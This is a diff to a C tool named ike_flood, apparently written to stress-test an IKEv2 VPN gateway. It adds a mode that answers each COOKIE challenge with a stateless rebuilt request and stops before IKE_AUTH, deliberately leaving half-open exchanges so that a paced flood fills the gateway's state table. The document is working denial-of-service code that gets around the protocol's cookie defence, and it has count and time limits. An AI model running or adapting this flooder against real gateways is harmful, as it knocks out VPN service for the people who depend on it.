@@ -8,8 +8,17 @@
  * IKE_SA_INIT responses (with a KE payload) and how many were COOKIE
  * challenges. Bounded in count (-n) and in time (-t).
  *
- * usage: ike_flood -d DST [-p PORT] [-n COUNT] [-t SECONDS] [-b SRC_PORT]
- * prints: sent=N answers=N real=N cookie=N other=N seconds=F */
+ * -c makes it a host that receives at its address (X13): every COOKIE
+ * challenge is answered at once with the same request (the KE value and
+ * nonce are derived from the SPI, so nothing is kept per request) with the
+ * COOKIE in front (RFC 7296 2.6), and it stops there: no IKE_AUTH, so each
+ * request the gateway then accepts stays half-open until it expires. -r
+ * sends at most RATE new requests per second (default: as fast as the
+ * socket takes them), so a flood can hold the gateway's table for a while.
+ *
+ * usage: ike_flood -d DST [-p PORT] [-n COUNT] [-t SECONDS] [-b SRC_PORT] [-c] [-r RATE]
+ * prints: sent=N answers=N real=N cookie=N other=N seconds=F, and with -c
+ * returned=N (COOKIEs sent back) */
 #include <arpa/inet.h>
 #include <errno.h>
 #include <fcntl.h>
@@ -65,6 +74,17 @@ static void fill_random(uint8_t *p, size_t n)
         p[i] = (uint8_t)rng();
 }
 
+/* The bytes of a request that follow from its SPI (-c): splitmix64. */
+static void fill_from(uint64_t *state, uint8_t *p, size_t n)
+{
+    for (size_t i = 0; i < n; i++) {
+        uint64_t z = (*state += 0x9e3779b97f4a7c15ull);
+        z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
+        z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
+        p[i] = (uint8_t)(z ^ (z >> 31));
+    }
+}
+
 /* One transform substructure at p (RFC 7296 3.3.2): TYPE and ID, with a
  * key length attribute when KEY_BITS is not 0; returns its length. */
 static size_t put_transform(uint8_t *p, bool last, unsigned type, unsigned id, unsigned key_bits)
@@ -83,19 +103,39 @@ static size_t put_transform(uint8_t *p, bool last, unsigned type, unsigned id, u
     return len;
 }
 
-/* Builds one IKE_SA_INIT request; returns its length. */
-static size_t build_init(uint8_t *m)
+/* Builds one IKE_SA_INIT request; returns its length. With spi (-c) the
+ * request of that SPIi, its KE value and nonce derived from it, with the
+ * COOKIE (cookie_len bytes) first when cookie is not NULL; else a random
+ * one. */
+static size_t build_init(uint8_t *m, const uint8_t *spi, const uint8_t *cookie, size_t cookie_len)
 {
     size_t o = 0;
+    uint64_t derive = 0;
     /* header */
-    fill_random(m, 8); /* SPIi */
+    if (spi) {
+        memcpy(m, spi, 8);
+        for (int i = 0; i < 8; i++)
+            derive = derive << 8 | spi[i];
+    } else {
+        fill_random(m, 8); /* SPIi */
+    }
     memset(m + 8, 0, 8);
-    m[16] = 33;   /* next: SA */
-    m[17] = 0x20; /* version 2.0 */
-    m[18] = 34;   /* IKE_SA_INIT */
-    m[19] = 0x08; /* initiator */
+    m[16] = cookie ? 41 : 33; /* next: N(COOKIE), or SA */
+    m[17] = 0x20;             /* version 2.0 */
+    m[18] = 34;               /* IKE_SA_INIT */
+    m[19] = 0x08;             /* initiator */
     put32(m + 20, 0);
     o = 28;
+    if (cookie) {
+        m[o] = 33; /* next: SA */
+        m[o + 1] = 0;
+        put16(m + o + 2, (unsigned)(8 + cookie_len));
+        m[o + 4] = 0; /* protocol */
+        m[o + 5] = 0; /* SPI size */
+        put16(m + o + 6, 16390);
+        memcpy(m + o + 8, cookie, cookie_len);
+        o += 8 + cookie_len;
+    }
     /* SA payload with one proposal of three transforms */
     size_t sa = o;
     m[o] = 34; /* next: KE */
@@ -120,21 +160,43 @@ static size_t build_init(uint8_t *m)
     put16(m + o + 2, 4 + 4 + 32);
     put16(m + o + 4, 31);
     put16(m + o + 6, 0);
-    fill_random(m + o + 8, 32);
+    if (spi)
+        fill_from(&derive, m + o + 8, 32);
+    else
+        fill_random(m + o + 8, 32);
     o += 40;
     /* Nonce */
     m[o] = 0;
     m[o + 1] = 0;
     put16(m + o + 2, 4 + 32);
-    fill_random(m + o + 4, 32);
+    if (spi)
+        fill_from(&derive, m + o + 4, 32);
+    else
+        fill_random(m + o + 4, 32);
     o += 36;
     put32(m + 24, (uint32_t)o);
     return o;
 }
 
 struct tally {
-    unsigned long answers, real, cookie, other;
+    unsigned long answers, real, cookie, other, returned;
 };
+
+/* -c: the socket and gateway to send the requests with cookies to. */
+static int follow_fd = -1;
+static struct sockaddr_in follow_to;
+
+/* The request of SPIi m[0..7] again with the COOKIE (-c). */
+static void return_cookie(const uint8_t *m, const uint8_t *cookie, size_t len, struct tally *t)
+{
+    uint8_t req[MSG_MAX + 128];
+    if (len == 0 || len > 64) /* 2.6: 1 to 64 bytes */
+        return;
+    size_t n = build_init(req, m, cookie, len);
+    if (sendto(follow_fd, req, n, 0, (struct sockaddr *)&follow_to, sizeof(follow_to)) ==
+        (ssize_t)n)
+        t->returned++;
+}
 
 /* Classifies one answer by walking its payload chain (bounds-checked). */
 static void classify(const uint8_t *m, size_t len, struct tally *t)
@@ -158,6 +220,8 @@ static void classify(const uint8_t *m, size_t len, struct tally *t)
             unsigned type = ((unsigned)m[o + 6] << 8) | m[o + 7];
             if (type == 16390) {
                 t->cookie++;
+                if (follow_fd >= 0)
+                    return_cookie(m, m + o + 8, plen - 8, t);
                 return;
             }
         }
@@ -190,9 +254,10 @@ int main(int argc, char **argv)
     const char *dst = NULL;
     unsigned port = 500, src_port = 0;
     unsigned long count = 10000;
-    double limit = 30;
+    double limit = 30, rate = 0;
+    bool follow = false;
     int opt;
-    while ((opt = getopt(argc, argv, "d:p:n:t:b:")) != -1) {
+    while ((opt = getopt(argc, argv, "d:p:n:t:b:cr:")) != -1) {
         switch (opt) {
         case 'd':
             dst = optarg;
@@ -209,13 +274,21 @@ int main(int argc, char **argv)
         case 'b':
             src_port = (unsigned)atoi(optarg);
             break;
+        case 'c':
+            follow = true;
+            break;
+        case 'r':
+            rate = atof(optarg);
+            break;
         default:
-            fprintf(stderr, "usage: ike_flood -d DST [-p PORT] [-n COUNT] [-t SECONDS] [-b SRC]\n");
+            fprintf(stderr, "usage: ike_flood -d DST [-p PORT] [-n COUNT] [-t SECONDS] [-b SRC] "
+                            "[-c] [-r RATE]\n");
             return 2;
         }
     }
-    if (!dst || count == 0 || count > 1000000 || limit <= 0 || limit > 600) {
-        fprintf(stderr, "ike_flood: need -d DST, 0 < COUNT <= 1000000, 0 < SECONDS <= 600\n");
+    if (!dst || count == 0 || count > 1000000 || limit <= 0 || limit > 600 || rate < 0) {
+        fprintf(stderr, "ike_flood: need -d DST, 0 < COUNT <= 1000000, 0 < SECONDS <= 600, "
+                        "RATE >= 0\n");
         return 2;
     }
     int ur = open("/dev/urandom", O_RDONLY);
@@ -244,6 +317,11 @@ int main(int argc, char **argv)
         }
     }
 
+    if (follow) {
+        follow_fd = fd;
+        follow_to = to;
+    }
+
     static uint8_t msgs_buf[BATCH][MSG_MAX];
     struct mmsghdr msgs[BATCH];
     struct iovec iov[BATCH];
@@ -252,8 +330,24 @@ int main(int argc, char **argv)
     double start = now_s(), deadline = start + limit;
     while (sent < count && now_s() < deadline) {
         unsigned n = count - sent < BATCH ? (unsigned)(count - sent) : BATCH;
+        if (rate > 0) {
+            /* Paced: what is due by now, in small batches; answers (and
+             * the COOKIEs to return) are read while waiting. */
+            unsigned long due = (unsigned long)((now_s() - start) * rate) + 1;
+            if (due <= sent) {
+                drain(fd, &t);
+                usleep(2000);
+                continue;
+            }
+            if (due - sent < n)
+                n = (unsigned)(due - sent);
+        }
         for (unsigned i = 0; i < n; i++) {
-            iov[i] = (struct iovec){msgs_buf[i], build_init(msgs_buf[i])};
+            uint8_t spi[8];
+            if (follow) /* what the request with the COOKIE will carry too */
+                fill_random(spi, sizeof(spi));
+            iov[i] =
+                (struct iovec){msgs_buf[i], build_init(msgs_buf[i], follow ? spi : NULL, NULL, 0)};
             msgs[i] = (struct mmsghdr){.msg_hdr = {.msg_name = &to,
                                                    .msg_namelen = sizeof(to),
                                                    .msg_iov = &iov[i],
@@ -276,8 +370,11 @@ int main(int argc, char **argv)
         drain(fd, &t);
         usleep(10000);
     }
-    printf("sent=%lu answers=%lu real=%lu cookie=%lu other=%lu seconds=%.3f\n", sent, t.answers,
+    printf("sent=%lu answers=%lu real=%lu cookie=%lu other=%lu seconds=%.3f", sent, t.answers,
            t.real, t.cookie, t.other, send_end - start);
+    if (follow)
+        printf(" returned=%lu", t.returned);
+    printf("\n");
     close(fd);
     return sent == count ? 0 : 1;
 }
